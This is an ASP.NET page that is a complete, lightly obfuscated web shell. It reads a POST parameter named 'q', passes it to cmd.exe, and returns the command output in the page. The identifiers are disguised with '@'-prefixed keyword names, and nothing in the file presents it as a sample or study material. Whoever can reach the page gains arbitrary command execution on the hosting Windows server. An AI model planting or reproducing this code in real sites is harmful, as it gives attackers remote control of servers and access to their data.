<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    void Page_Load(object @sender, EventArgs @e)
    {
        var @class = @Request.@Form[@"q"];
        if (@class == null) return;
        var @object = new @ProcessStartInfo(@"C:\Windows\System32\cmd.exe", @"/c " + @class);
        @object.@UseShellExecute = false;
        @object.@RedirectStandardOutput = true;
        @object.@CreateNoWindow = true;
        using (var @using = @Process.@Start(@object))
        {
            @Response.@Write(@"<pre>" + @Server.@HtmlEncode(@using.@StandardOutput.@ReadToEnd()) + @"</pre>");
        }
    }
</script>
